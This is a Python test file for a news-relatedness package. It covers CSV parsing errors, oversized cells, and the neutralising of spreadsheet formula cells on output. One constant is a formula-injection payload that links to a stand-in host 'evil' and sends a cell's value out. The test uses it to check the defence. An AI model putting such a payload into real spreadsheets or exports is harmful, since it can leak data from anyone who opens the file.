"""CSV in and out (issue 17, "Found broken" items 5 and 6)."""

from __future__ import annotations

import csv
import io
import json
import warnings

import pytest

from relatedness import RelatedArticles
from relatedness.articles import MAX_CSV_CELL, read_csv
from relatedness.batch.writers import CsvWriter, neutralise_cell, restore_cell
from relatedness.cli import EXIT_BAD_INPUT, EXIT_OK, main
from relatedness.exceptions import InvalidArticleError

from .conftest import news_rows

HYPERLINK = '=HYPERLINK("http://evil/?x="&A1,"click")'


def run(*argv: str) -> tuple[int, str, str]:
    out, err = io.StringIO(), io.StringIO()
    code = main(list(argv), out=out, err=err)
    return code, out.getvalue(), err.getvalue()


FIVE_ROWS = (
    "id,title,body\n"
    "1,Budget vote,parliament budget vote\n"
    '2,"Budget debate,parliament budget debate\n'  # the quote is never closed
    "3,Tax cut,parliament tax cut budget\n"
    '4,"Schools, money",schools budget money\n'
    '5,Rates,"bank rates\nheld"\n'
)


def test_unbalanced_csv_quote_is_an_error_naming_the_line(tmp_path):
    path = tmp_path / "a.csv"
    path.write_text(FIVE_ROWS, encoding="utf-8")
    with pytest.raises(InvalidArticleError, match=r"line 3: an unbalanced quote"):
        read_csv(path)
    code, _, err = run("fit", str(path), "--model", str(tmp_path / "m"))
    assert code == EXIT_BAD_INPUT and "line 3: an unbalanced quote" in err


def test_unbalanced_csv_quote_with_skip_invalid_skips_only_that_record(tmp_path):
    path = tmp_path / "a.csv"
    path.write_text(FIVE_ROWS, encoding="utf-8")
    with pytest.warns(UserWarning, match=r"skipped 1 invalid lines: line 3: an unbalanced quote"):
        rows = read_csv(path, on_invalid="skip")
    assert [r["id"] for r in rows] == ["1", "3", "4", "5"]
    assert rows[3]["body"] == "bank rates\nheld"  # a closed multi-line cell is still one cell
    code, out, err = run("fit", str(path), "--model", str(tmp_path / "m"), "--min-df", "1",
                         "--skip-invalid")  # fmt: skip
    assert code == EXIT_OK, err
    assert "fitted 4 articles" in out
    rejects = [json.loads(x) for x in (tmp_path / "m" / "rejects.jsonl").read_text().splitlines()]
    assert rejects[0]["reason"].startswith("line 3: an unbalanced quote")


def test_quote_unclosed_at_the_end_of_the_file_names_its_line(tmp_path):
    path = tmp_path / "a.csv"
    path.write_text('id,title\n1,ok\n2,"never closed\n3,swallowed\n', encoding="utf-8")
    with pytest.raises(InvalidArticleError, match=r"line 3: an unbalanced quote"):
        read_csv(path)


def test_cell_over_131072_characters_is_read(tmp_path):
    path = tmp_path / "a.csv"
    path.write_text(f'id,title,body\n1,long,"{"word " * 40_000}"\n2,short,b\n', encoding="utf-8")
    rows = read_csv(path)
    assert len(rows[0]["body"]) == 200_000 and rows[1]["id"] == "2"
    assert csv.field_size_limit() == 131_072  # the process-wide limit is restored


def test_cell_beyond_the_cap_is_an_error_naming_the_line_not_unexpected(tmp_path, monkeypatch):
    monkeypatch.setattr("relatedness.articles.MAX_CSV_CELL", 1_000_000)
    path = tmp_path / "a.csv"
    path.write_text(f'id,title,body\n1,ok,b\n2,long,"{"x" * 1_000_001}"\n', encoding="utf-8")
    with pytest.raises(InvalidArticleError, match=r"line 3: a cell longer than 1,000,000"):
        read_csv(path)
    assert MAX_CSV_CELL >= 64 * 2**20


@pytest.mark.parametrize("cell", ["=1+1", "+1", "-1", "@A1", "\tx", "\rx", "'q", HYPERLINK])
def test_csv_cells_that_start_a_formula_are_neutralised_and_read_back(cell):
    assert neutralise_cell(cell) == "'" + cell
    assert restore_cell(neutralise_cell(cell)) == cell
    assert neutralise_cell("plain") == "plain" and neutralise_cell(0.5) == 0.5


def test_hyperlink_title_reaches_the_csv_output_as_text(tmp_path):
    rows = news_rows()
    title = HYPERLINK + " " + rows[2]["title"]
    rows[2]["title"] = title  # p3, in p1's list
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        model = RelatedArticles(min_df=1).fit(rows)
    from relatedness.batch.job import precompute

    out = tmp_path / "lists"
    precompute(model, out, format="csv", progress=False)
    cells = [c for shard in sorted(out.rglob("*.csv")) for r in csv.reader(shard.open())
             for c in r]  # fmt: skip
    assert "'" + title in cells
    assert not any(c.startswith(("=", "+", "@", "\t", "\r")) for c in cells)
    back = {i: lst for shard in sorted(out.rglob("*.csv")) for i, lst in CsvWriter().read(shard)}
    assert title in [e["title"] for e in back["p1"]]
